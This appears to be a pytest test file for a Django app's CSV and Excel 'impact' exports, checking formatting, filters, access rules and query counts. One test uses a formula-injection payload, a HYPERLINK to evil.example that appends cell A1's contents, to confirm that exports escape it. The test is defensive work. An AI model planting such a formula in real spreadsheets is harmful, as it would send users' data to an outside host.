"""The impact page's downloads: CSV of one kind, Excel of every kind, for those who read the
territory's impact, narrowed by the page's filter, safe to open in a spreadsheet."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db.models.query import QuerySet
from django.http import FileResponse, StreamingHttpResponse
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import timezone

from accompaniment.enums import Contract, JobKind, JobStatus, MatchStatus, NeedKind
from accompaniment.models import JobRecord
from territoire.impact import registry
from territoire.impact.registry import Column, ExportKind
from tests.accompaniment.factories import (
    JobRecordFactory,
    MilestoneFactory,
    NeedFactory,
    NeedMatchFactory,
)
from tests.challenges.factories import ChallengeFactory
from tests.factories import DomainFactory, OrganisationFactory
from tests.projects.factories import ProjectFactory

TODAY = timezone.localdate().isoformat()


def csv_url(cast, kind: str, query: str = "") -> str:
    url = reverse("impact_export_csv", kwargs={"territory": cast.territory.slug, "kind": kind})
    return f"{url}?{query}" if query else url


def xlsx_url(cast, query: str = "") -> str:
    url = reverse("impact_export_xlsx", kwargs={"territory": cast.territory.slug})
    return f"{url}?{query}" if query else url


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def read_xlsx(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.fixture
def portfolio(cast):
    """Two challenges; the cast's project in the first, with jobs, milestones and a need; a
    project in the second with one job."""
    domain = DomainFactory(name="Santé", slug="sante")
    seniors = ChallengeFactory(territory=cast.territory, domain=domain, title="Seniors isolés")
    school = ChallengeFactory(territory=cast.territory, domain=domain, title="Décrochage")
    project = cast.project
    project.challenge, project.domain = seniors, domain
    project.lead_organisation = OrganisationFactory(territory=cast.territory, name="Asso Bus")
    project.save()
    JobRecordFactory(
        project=project,
        occurred_on=datetime.date(2026, 9, 15),
        number=2,
        fte=Decimal("1.50"),
        contract=Contract.FIXED_TERM,
        status=JobStatus.VERIFIED,
        verified_at=timezone.make_aware(datetime.datetime(2026, 9, 20, 10, 0)),
    )
    JobRecordFactory(
        project=project,
        occurred_on=datetime.date(2027, 2, 1),
        kind=JobKind.KEPT,
        status=JobStatus.RETURNED,
        return_reason="Il manque le contrat.",
    )
    other = ProjectFactory(territory=cast.territory, name="Cours du soir", challenge=school)
    JobRecordFactory(project=other, occurred_on=datetime.date(2026, 11, 3))
    MilestoneFactory(project=project, title="Premier trajet", due_on=datetime.date(2026, 10, 1))
    MilestoneFactory(
        project=project,
        title="Local trouvé",
        due_on=datetime.date(2026, 10, 1),
        done_on=datetime.date(2026, 10, 5),
        evidence_link="https://example.org/bail",
    )
    MilestoneFactory(project=project, title="Bilan", due_on=datetime.date(2099, 1, 1))
    need = NeedFactory(project=project, kind=NeedKind.PREMISES, description="Un garage.")
    NeedMatchFactory(need=need, status=MatchStatus.ACCEPTED)
    NeedMatchFactory(need=need, status=MatchStatus.PROPOSED)
    return {"seniors": seniors, "school": school, "other": other}


def test_projects_csv_is_a_french_excel_file_streamed_row_by_row(client, cast, portfolio):
    client.force_login(cast.official)

    with_queries = reverse("impact_export_csv", args=[cast.territory.slug, "projets"])
    response = client.get(with_queries)

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="impact-metropole-a-projets-{TODAY}.csv"'
    )
    header, *rows = read_csv(response)
    assert header[:4] == ["projet", "défi", "domaine", "statut"]
    bus = next(row for row in rows if row[0] == "Bus numérique")
    assert bus[1:5] == ["Seniors isolés", "Santé", "accompagné", "Asso Bus"]
    assert bus[5] == cast.coach.full_name
    assert bus[6] == "oui"
    assert bus[7] == TODAY  # ISO date
    assert bus[10].endswith("/bus-numerique/")
    assert len(rows) == 2


def test_job_records_csv_has_decimal_commas_and_iso_dates(client, cast, portfolio):
    client.force_login(cast.organiser)

    header, *rows = read_csv(client.get(csv_url(cast, "emplois")))

    assert header == [
        "projet",
        "défi",
        "date",
        "nombre d'emplois",
        "contrat",
        "équivalent temps plein",
        "créé ou maintenu",
        "statut",
        "vérifié le",
        "motif du renvoi",
    ]
    assert rows[0] == [
        "Bus numérique",
        "Seniors isolés",
        "2026-09-15",
        "2",
        "CDD",
        "1,50",
        "créé",
        "vérifié",
        "2026-09-20",
        "",
    ]
    assert rows[1][6:] == ["maintenu", "renvoyé", "", "Il manque le contrat."]
    assert len(rows) == 3


def test_milestones_and_needs_csv(client, cast, portfolio):
    client.force_login(cast.coach)

    _header, *milestones = read_csv(client.get(csv_url(cast, "jalons")))
    _header, *needs = read_csv(client.get(csv_url(cast, "besoins")))

    by_title = {row[2]: row for row in milestones}
    assert by_title["Premier trajet"][3:] == ["2026-10-01", "", "oui", "non"]
    assert by_title["Local trouvé"][3:] == ["2026-10-01", "2026-10-05", "non", "oui"]
    assert by_title["Bilan"][5] == "non"
    assert needs == [
        ["Bus numérique", "Seniors isolés", "locaux", "Un garage.", "ouvert", TODAY, "2", "1"]
    ]


def test_the_filter_narrows_rows_by_challenge_and_period(client, cast, portfolio):
    client.force_login(cast.official)
    school = portfolio["school"].pk

    _h, *projects = read_csv(client.get(csv_url(cast, "projets", f"defi={school}")))
    _h, *jobs = read_csv(client.get(csv_url(cast, "emplois", f"defi={school}")))
    _h, *autumn = read_csv(
        client.get(csv_url(cast, "emplois", "depuis=2026-10-01&jusqua=2026-12-31"))
    )
    _h, *late_2026 = read_csv(client.get(csv_url(cast, "jalons", "jusqua=2026-12-31")))

    assert [row[0] for row in projects] == ["Cours du soir"]
    assert [row[0] for row in jobs] == ["Cours du soir"]
    assert [row[2] for row in autumn] == ["2026-11-03"]
    assert sorted(row[2] for row in late_2026) == ["Local trouvé", "Premier trajet"]


def test_bad_filter_values_narrow_nothing(client, cast, portfolio):
    client.force_login(cast.official)

    response = client.get(csv_url(cast, "emplois", "depuis=hier&jusqua=2026-13-45&defi=abc"))

    assert response.status_code == 200
    assert len(read_csv(response)) == 4


def test_a_project_name_is_never_run_as_a_formula(client, cast, portfolio):
    cast.project.name = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
    cast.project.save()
    ProjectFactory(territory=cast.territory, name="@SUM(1)")
    ProjectFactory(territory=cast.territory, name="-2+3")
    client.force_login(cast.organiser)

    _header, *rows = read_csv(client.get(csv_url(cast, "projets")))
    book = read_xlsx(client.get(xlsx_url(cast)))

    names = {row[0] for row in rows}
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")' in names
    assert {"'@SUM(1)", "'-2+3"} <= names
    sheet = book["Projets"]
    cells = {cell.value: cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)}
    for name in ('\'=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")', "'@SUM(1)", "'-2+3"):
        assert cells[name].data_type == "s"
    # The job records' sheet reads the project's name too.
    job_names = {row[0].value for row in book["Emplois déclarés"].iter_rows(min_row=2)}
    assert not any(str(name).startswith("=") for name in job_names)


def test_xlsx_has_one_typed_sheet_per_kind_with_a_frozen_bold_header(client, cast, portfolio):
    client.force_login(cast.official)

    response = client.get(xlsx_url(cast))

    assert response.status_code == 200
    assert isinstance(response, FileResponse)
    assert response["Content-Disposition"] == (
        f'attachment; filename="impact-metropole-a-{TODAY}.xlsx"'
    )
    book = read_xlsx(response)
    assert {"Projets", "Emplois déclarés", "Jalons", "Besoins"} <= set(book.sheetnames)
    jobs = book["Emplois déclarés"]
    assert jobs.freeze_panes == "A2"
    assert [cell.value for cell in jobs[1]][:3] == ["projet", "défi", "date"]
    assert all(cell.font.b for cell in jobs[1])
    first = jobs[2]
    assert first[2].value == datetime.datetime(2026, 9, 15)  # a date cell
    assert first[2].is_date
    assert first[3].value == 2 and first[3].data_type == "n"
    assert first[5].value == 1.5 and first[5].data_type == "n"
    assert jobs.column_dimensions["A"].width >= 20
    milestones = book["Jalons"]
    late = {row[2].value: row[5].value for row in milestones.iter_rows(min_row=2)}
    assert late == {"Premier trajet": True, "Local trouvé": False, "Bilan": False}
    assert milestones["F2"].data_type == "b"


@pytest.fixture
def attendees_kind(monkeypatch):
    """A kind with personal data, as the events app registers its registrations."""
    kind = ExportKind(
        key="inscrits",
        label="Inscrit·es",
        columns=(Column("nom", "nom"),),
        rows=lambda impact: iter([("Zoé Inscrite",)]),
        organisers_only=True,
    )
    monkeypatch.setitem(registry._exports, kind.key, kind)
    return kind


def test_kinds_with_personal_data_are_for_organisers_only(client, cast, attendees_kind):
    client.force_login(cast.official)
    refused = client.get(csv_url(cast, "inscrits"))
    official_book = read_xlsx(client.get(xlsx_url(cast)))
    client.force_login(cast.organiser)
    allowed = client.get(csv_url(cast, "inscrits"))
    organiser_book = read_xlsx(client.get(xlsx_url(cast)))

    assert refused.status_code == 404
    assert "Inscrit·es" not in official_book.sheetnames
    assert read_csv(allowed)[1] == ["Zoé Inscrite"]
    assert "Inscrit·es" in organiser_book.sheetnames


@pytest.mark.parametrize("role", ["other_organiser", "stranger", "team_member", "facilitator"])
def test_others_get_a_404(client, cast, portfolio, role):
    client.force_login(getattr(cast, role))

    assert client.get(csv_url(cast, "projets")).status_code == 404
    assert client.get(xlsx_url(cast)).status_code == 404


def test_an_unknown_kind_is_a_404(client, cast):
    client.force_login(cast.organiser)

    assert client.get(csv_url(cast, "nulle-part")).status_code == 404


def test_a_big_export_streams_in_a_bounded_number_of_queries(
    client, cast, monkeypatch, django_assert_max_num_queries
):
    JobRecord.objects.bulk_create(
        JobRecord(
            project=cast.project,
            occurred_on=datetime.date(2026, 9, 1) + datetime.timedelta(days=n % 300),
            number=1,
            contract=Contract.PERMANENT,
            fte=Decimal("1.00"),
        )
        for n in range(5000)
    )
    iterated = []
    real_iterator = QuerySet.iterator

    def spy(self, *args, **kwargs):
        iterated.append(self.model)
        return real_iterator(self, *args, **kwargs)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    client.force_login(cast.official)

    with django_assert_max_num_queries(8):
        response = client.get(csv_url(cast, "emplois"))
        assert isinstance(response, StreamingHttpResponse)
        assert iterated == []  # nothing read yet: the rows come as the response is sent
        lines = read_csv(response)

    assert len(lines) == 5001
    assert iterated == [JobRecord]


def test_the_whole_workbook_in_a_bounded_number_of_queries(
    client, cast, portfolio, django_assert_max_num_queries
):
    for _n in range(20):
        project = ProjectFactory(territory=cast.territory, challenge=portfolio["seniors"])
        JobRecordFactory(project=project)
        MilestoneFactory(project=project)
        NeedMatchFactory(need=NeedFactory(project=project))
    client.force_login(cast.official)

    with django_assert_max_num_queries(15):
        book = read_xlsx(client.get(xlsx_url(cast)))

    assert book["Projets"].max_row == 23


def test_the_downloads_list_keeps_the_filter(cast, attendees_kind):
    html = render_to_string(
        "territoire/impact/_downloads.html",
        {
            "territory": cast.territory,
            "query": "depuis=2026-01-01&defi=3",
            "export_kinds": registry.export_kinds(organiser=False),
        },
    )

    assert f"{xlsx_url(cast)}?depuis=2026-01-01&amp;defi=3" in html
    assert f"{csv_url(cast, 'jalons')}?depuis=2026-01-01&amp;defi=3" in html
    assert "inscrits.csv" not in html
